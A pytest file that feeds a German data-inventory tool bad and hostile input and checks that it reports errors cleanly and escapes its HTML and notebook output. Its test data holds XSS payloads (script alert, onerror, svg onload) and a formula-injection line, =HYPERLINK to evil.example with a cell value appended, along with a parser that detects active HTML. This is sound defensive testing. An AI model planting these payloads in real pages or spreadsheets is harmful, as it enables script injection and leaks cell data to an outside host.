"""Bad input, through the real command: a sentence or a finding, no trace, the others still done."""

import json
import os
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest

from tests.commands import clean_environment, command, make_workbook

GOOD = "Mitgliedsnummer;Beitrag\n00017;12,50\n00018;11,00\n00019;9,00\n"
LIVE = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"hier")'


def empty(data: Path) -> str:
    (data / "leer.csv").write_bytes(b"")
    return "leer.csv"


def binary(data: Path) -> str:
    (data / "bild.csv").write_bytes(bytes(range(256)) * 40)
    return "bild.csv"


def broken_xlsx(data: Path) -> str:
    (data / "kaputt.xlsx").write_bytes(b"PK\x03\x04" + b"kaputt" * 100)
    return "kaputt.xlsx"


def truncated_xlsx(data: Path) -> str:
    book = openpyxl.Workbook()
    book.active.append(["A", "B"])
    book.save(data / "halb.xlsx")
    whole = (data / "halb.xlsx").read_bytes()
    (data / "halb.xlsx").write_bytes(whole[: len(whole) // 2])
    return "halb.xlsx"


def link_outside(data: Path) -> str:
    outside = data.parent.parent / "fremd.csv"
    outside.write_text("Name;Ort\nGeheimkanari;Ulm\n", encoding="utf-8")
    (data / "verweis.csv").symlink_to(outside)
    return "verweis.csv"


def link_to_nothing(data: Path) -> str:
    (data / "nirgends.csv").symlink_to(data.parent.parent / "fehlt.csv")
    return "nirgends.csv"


def link_to_itself(data: Path) -> str:
    (data / "kreis.csv").symlink_to(data / "kreis.csv")
    return "kreis.csv"


REFUSED = [empty, binary, broken_xlsx, truncated_xlsx, link_outside, link_to_nothing, link_to_itself]


def check_said(done: subprocess.CompletedProcess[str], name: str) -> None:
    """A sentence that names the thing and ends, and neither a trace nor a path."""
    assert "Traceback" not in done.stdout + done.stderr
    assert not re.search("[\ue000-\uf8ff]", done.stdout + done.stderr)
    [said] = [line for line in done.stderr.splitlines() if "✗" in line and name in line]
    assert len(said) > len(name) + 30, "what happened, and what to do"
    assert "/tmp/" not in said


@pytest.mark.parametrize("make", REFUSED, ids=lambda make: make.__name__)
def test_a_file_that_cannot_be_read_is_named_and_the_others_are_done(tmp_path, make):
    data = make_workbook(tmp_path / "verein") / "data"
    name = make(data)
    (data / "gut.csv").write_text(GOOD, encoding="utf-8")
    said = []
    for language in ("de", "en"):
        done = command("inventory", data, "--json", "--lang", language)
        assert done.returncode == 0
        check_said(done, name)
        document = json.loads(done.stdout)
        assert [table["path"] for table in document["tables"]] == ["gut.csv"]
        assert [item["path"] for item in document["not_read"]] == [name]
        said.append(done.stderr)
    assert said[0] != said[1]
    assert command("check", data.parent).returncode == 1
    if make is not link_outside:  # who names a link wants what it leads to
        alone = command("inventory", data / name)
        assert alone.returncode == 2
        assert "✗" in alone.stderr
        assert "Traceback" not in alone.stderr


@pytest.fixture(scope="module")
def everything(tmp_path_factory):
    """One run over all that cannot be read, beside a good table."""
    folder = make_workbook(tmp_path_factory.mktemp("bad") / "verein")
    names = {make(folder / "data") for make in REFUSED if make is not link_to_itself}
    (folder / "data" / "gut.csv").write_text(GOOD, encoding="utf-8")
    return folder, names, command("run", folder)


def test_a_run_over_all_of_it_is_done_and_says_what_was_not_assessed(everything):
    folder, names, done = everything
    assert done.returncode == 0, done.stderr
    findings = json.loads((folder / "out" / "findings.json").read_text(encoding="utf-8"))["findings"]
    not_read = [finding for finding in findings if finding["code"] == "inventory.not_read"]
    assert {finding["table"] for finding in not_read} == names
    assert {finding["status"] for finding in not_read} == {"not_assessed"}
    for finding in not_read:
        assert finding["reason"]
        assert finding["message"]["de"] != finding["message"]["en"]
    page = (folder / "out" / "report.html").read_text(encoding="utf-8")
    assert all(name in page for name in names)
    assert "Geheimkanari" not in page + json.dumps(findings)


def test_an_empty_folder(tmp_path):
    for language, words in (("de", "keine Tabelle"), ("en", "no table")):
        done = command("inventory", tmp_path, "--lang", language)
        assert done.returncode == 2
        assert words in done.stderr
    done = command("inventory", tmp_path, "--json")
    assert done.returncode == 2
    assert json.loads(done.stdout)["tables"] == []


def test_a_folder_without_permission(tmp_path):
    data = make_workbook(tmp_path / "verein") / "data"
    (data / "gut.csv").write_text(GOOD, encoding="utf-8")
    (data / "zu").mkdir()
    (data / "zu" / "b.csv").write_text(GOOD, encoding="utf-8")
    (data / "zu.csv").write_text(GOOD, encoding="utf-8")
    (data / "zu.csv").chmod(0)
    (data / "zu").chmod(0)
    prefix = []
    if os.geteuid() == 0:
        if shutil.which("setpriv") is None:
            pytest.skip("root needs setpriv to give up its rights")
        rights = "-dac_override,-dac_read_search"
        prefix = ["setpriv", f"--bounding-set={rights}", f"--inh-caps={rights}"]
    try:
        for arguments, code in (
            (["inventory", data, "--json"], 0),
            (["check", data.parent], 1),
            (["inventory", data / "zu"], 2),
        ):
            done = subprocess.run(
                [*prefix, sys.executable, "-m", "cdl_workbook", *map(str, arguments)],
                env=clean_environment(),
                capture_output=True,
                text=True,
                check=False,
            )
            assert done.returncode == code, done.stderr
            assert "zu" in done.stderr
            assert "Traceback" not in done.stderr
        (data.parent / "workbook.yaml").chmod(0)
        done = subprocess.run(
            [*prefix, sys.executable, "-m", "cdl_workbook", "run", data.parent],
            env=clean_environment(),
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 2
        assert "workbook.yaml" in done.stderr
        assert "Traceback" not in done.stderr
    finally:
        (data / "zu").chmod(0o700)


ODD = {
    "ragged.csv": "A;B;C\n1;2;3\n4;5\n6;7;8;9\n10;11;12\n",
    "nur kopf.csv": "Vorname;Ort;Jahr\n",
    "eine spalte.csv": "Beitrag\n1\n2\n3\n",
    "breit.csv": ";".join(f"Spalte {n}" for n in range(200)) + "\n" + (";".join("1" * 200) + "\n") * 3,
    "umbruch.csv": '"Beitrag\nin Euro";"Tab\there";Jahr\n1;2;2020\n3;4;2021\n',
    "überschrift ümläut 日本 🙂.csv": GOOD,
    "leere spalte.csv": "A;;C\n1;2;3\n4;5;6\n",
    "doppelt.csv": "A;A;A\n1;2;3\n4;5;6\n",
    "nur leerzeilen.csv": "\n\n\n\n",
    "null.csv": "A;B\n1;\x00\n2;3\n",
    "quote.csv": 'A;B\n1;"offen\n2;3\n',
    "lang.csv": "A;" + "B" * 5000 + "\n1;2\n3;4\n",
    f"{FORMULA.replace('/', '_')}.csv": f"{FORMULA};B\n{FORMULA};2\nx;3\n",
    "live.csv": f'{LIVE};<img src=x onerror=alert(1)>;""" onmouseover=""alert(1)";B\n'
    f"{LIVE};2;3;=1+1\n{LIVE};x;y;@SUM(1)\n",
    "<img src=x onerror=alert(2)>.csv": GOOD,
}


ANSWERS = json.dumps(
    {
        "answers": {
            "cg.problem": {"value": f"{LIVE}\n{FORMULA}", "note": LIVE, "author": LIVE},
            "st.questions": {"value": [{"question": LIVE, "decision": FORMULA}]},
            "cs.why_support": {"state": "not_applicable", "reason": LIVE},
            "cg.solution": {
                "state": "contested",
                "voices": [{"value": LIVE, "author": LIVE}, {"value": FORMULA, "author": "Team"}],
            },
        },
        "tables": {"live.xlsx#<script>alert(3)< script>": {"answers": {"pr.table.purpose": {"value": LIVE}}}},
    }
)
"""YAML as well."""


@pytest.fixture(scope="module")
def odd(tmp_path_factory):
    settings = "created: 2026-01-02\n"
    folder = make_workbook(tmp_path_factory.mktemp("odd") / "Ordner mit ümläut & <b>", settings)
    text = (
        (folder / "workbook.yaml").read_text(encoding="utf-8").replace("Probeverein", f"'{LIVE} {FORMULA}'")
    )
    (folder / "workbook.yaml").write_text(text.replace("title: Probe", f"title: '{LIVE}'"), encoding="utf-8")
    for name, content in ODD.items():
        (folder / "data" / name).write_text(content, encoding="utf-8")
    book = openpyxl.Workbook()
    book.active.title = "<script>alert(3)< script>"
    book.active.append([LIVE, FORMULA, "Jahr"])
    book.active.append([LIVE, FORMULA, 2020])
    book.save(folder / "data" / "live.xlsx")
    (folder / "data" / "<svg onload=alert(4)>").mkdir()
    (folder / "data" / "<svg onload=alert(4)>" / "tief.csv").write_text(GOOD, encoding="utf-8")
    (folder / "answers.yaml").write_text(ANSWERS, encoding="utf-8")
    return folder, command("run", folder)


def test_odd_tables_are_all_in_the_result(odd):
    folder, done = odd
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    inventory = json.loads((folder / "out" / "inventory.json").read_text(encoding="utf-8"))
    mentioned = {item["path"] for item in (*inventory["tables"], *inventory["not_read"])}
    assert mentioned == {*ODD, "live.xlsx", "<svg onload=alert(4)>/tief.csv"}
    tables = {table["path"]: table for table in inventory["tables"]}
    assert len(tables["breit.csv"]["columns"]) == 200
    assert tables["nur kopf.csv"]["rows"] == 0
    assert len(tables["eine spalte.csv"]["columns"]) == 1
    findings = json.loads((folder / "out" / "findings.json").read_text(encoding="utf-8"))["findings"]
    unread = {item["path"] for item in inventory["not_read"]}
    about = {finding["table"] for finding in findings if finding["status"] == "not_assessed"}
    assert about >= unread | {"nur kopf.csv"}
    ragged = {finding["code"] for finding in findings if finding["table"] == "ragged.csv"}
    assert ragged & {"inventory.short_lines", "inventory.not_read"}


def test_odd_tables_on_the_terminal(odd):
    folder, _ = odd
    for language in ("de", "en"):
        done = command("inventory", folder / "data", "--lang", language)
        assert done.returncode == 0
        assert "Traceback" not in done.stderr
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ue000-\uf8ff]", done.stdout + done.stderr)


class Live(HTMLParser):
    """Everything in a page that could act."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.acts: list[str] = []
        self.block = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self.block = tag if tag == "script" else ""
        if tag == "script" and given.get("type") not in ("application/json", "application/ld+json"):
            self.acts.append(tag)
        if tag in ("iframe", "object", "embed", "form", "link", "base"):
            self.acts.append(tag)
        self.acts += [name for name in given if name.startswith("on")]
        self.acts += [
            f"{name}={value}"
            for name, value in given.items()
            if re.match(r"\s*(javascript|vbscript|data:text)", value or "", re.IGNORECASE)
        ]

    def handle_data(self, data: str) -> None:
        if self.block and "<" in data:
            self.acts.append("< in a data block")

    def handle_endtag(self, tag: str) -> None:
        self.block = ""


def acting(page: str) -> list[str]:
    look = Live()
    look.feed(page)
    look.close()
    return look.acts


def test_the_test_itself_sees_what_acts():
    assert acting("<p onclick=x><script>1</script><a href=' JavaScript:x'><iframe>") == [
        *("onclick", "script", "href= JavaScript:x", "iframe"),
    ]


def test_nothing_is_live_in_the_page_or_in_a_cells_output(odd):
    folder, _ = odd
    page = (folder / "out" / "report.html").read_text(encoding="utf-8")
    assert acting(page) == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page, "it is there, as text"
    views = [
        "".join(output["data"].get("text/html", ""))
        for path in sorted((folder / "out" / "executed").glob("*.ipynb"))
        for cell in json.loads(path.read_text(encoding="utf-8"))["cells"]
        for output in cell.get("outputs", [])
    ]
    assert len(views) > 15
    assert [acting(view) for view in views if acting(view)] == []
    sketch = (folder / "out" / "exports" / "project-sketch.md").read_text(encoding="utf-8")
    assert "alert(1)" in sketch
    assert "<script" not in sketch.replace("\\<", "")


@pytest.mark.skipif(sys.platform != "linux", reason="only Linux takes any bytes for a name")
def test_a_file_name_that_is_no_text(tmp_path):
    folder = make_workbook(tmp_path / "verein")
    (folder / "data" / "gut.csv").write_text(GOOD, encoding="utf-8")
    (folder / "data" / os.fsdecode(b"m\xfcll.csv")).write_text(GOOD, encoding="utf-8")
    for arguments in (
        ["inventory", folder / "data"],
        ["inventory", folder / "data", "--json"],
        ["run", folder],
    ):
        done = command(*arguments)
        assert done.returncode == 0, done.stderr
    document = json.loads((folder / "out" / "inventory.json").read_bytes().decode("utf-8"))
    assert len(document["tables"]) + len(document["not_read"]) == 2
    assert len((folder / "out" / "report.html").read_bytes().decode("utf-8")) > 10_000
